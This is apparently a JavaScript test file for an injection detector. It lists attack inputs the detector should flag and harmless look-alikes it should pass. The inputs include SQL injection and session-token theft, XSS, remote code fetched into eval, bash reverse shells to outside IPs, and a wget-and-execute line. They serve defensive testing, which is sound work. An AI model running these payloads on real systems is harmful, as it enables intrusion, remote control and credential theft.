import { describeDetector, result } from '../testing/cases.js';
import { contentInjectedInput } from './content-injected-input.js';

describeDetector(contentInjectedInput, {
  attacks: [
    result("GET /items/7' AND pg_sleep(9)-- HTTP/1.1"),
    result('{"name":"x\' UNION ALL SELECT token FROM sessions --"}'),
    result('"onerror="alert(document.domain)'),
    result("row['constructor']['constructor']('return this')()"),
    result('rule = eval(fetch("https://cdn.example/rule.js"))'),
    result('bash -i >& /dev/tcp/198.51.100.7/9001 0>&1'),
    result('wget 91.198.51.7/setup && chmod +x setup && ./setup'),
    result('see http://0x7f000001/status for the result'),
  ],
  twins: [
    result('SELECT id FROM a UNION SELECT id FROM b ORDER BY id'),
    result('The query slept: pg_sleep(5) was called by the test of the pool.'),
    result('The class has a constructor that returns this.'),
    result('curl -fsSL https://get.acme.io/install.sh | bash'),
    result('Clean the build with rm -rf ./dist before you start.'),
    result('A reverse shell looks like this: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
  ],
});
